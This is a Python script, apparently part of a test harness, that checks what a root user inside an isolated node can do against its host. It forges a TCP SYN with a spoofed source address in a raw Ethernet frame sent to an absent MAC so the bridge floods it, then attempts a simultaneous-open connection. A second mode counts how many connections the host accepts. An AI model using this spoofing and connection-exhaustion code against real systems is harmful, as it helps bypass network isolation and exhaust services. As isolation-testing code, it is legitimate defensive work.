"""What root in a node attempts against the host, run in the node's network namespace.

forge HOST PORT OWN OWN_PORT  sends a packet as if HOST had connected from PORT to OWN_PORT,
                              connects from OWN_PORT to PORT, and prints the result
open HOST PORT COUNT          opens and closes up to COUNT connections, and prints how many
                              the host accepted until it refused one
"""

import errno
import socket
import struct
import sys

# A hardware address that no port of the bridge has, so the bridge sends the frame to all.
ABSENT = bytes.fromhex("0200000000fe")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def first_packet(source, source_port, target, target_port):
    """An IPv4 packet that opens a connection."""
    source, target = socket.inet_aton(source), socket.inet_aton(target)

    def tcp(check):
        return struct.pack("!HHIIBBHHH", source_port, target_port, 1, 0, 5 << 4, 2, 64240, check, 0)

    def ip(check):
        head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, socket.IPPROTO_TCP, check)
        return head + source + target

    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    return ip(checksum(ip(0))) + tcp(checksum(pseudo + tcp(0)))


def forge(host, port, own, own_port):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(("eth0", 0))
    mine = raw.getsockname()[4]
    raw.send(ABSENT + mine + b"\x08\x00" + first_packet(host, int(port), own, int(own_port)))
    with socket.socket() as connection:
        connection.bind((own, int(own_port)))
        connection.settimeout(5)
        try:
            connection.connect((host, int(port)))
        except OSError as e:
            return errno.errorcode.get(e.errno, str(e))
    return "connected"


def opened(host, port, count):
    for number in range(int(count)):
        try:
            socket.create_connection((host, int(port)), timeout=5).close()
        except ConnectionRefusedError:
            return number
    return int(count)


print({"forge": forge, "open": opened}[sys.argv[1]](*sys.argv[2:]))
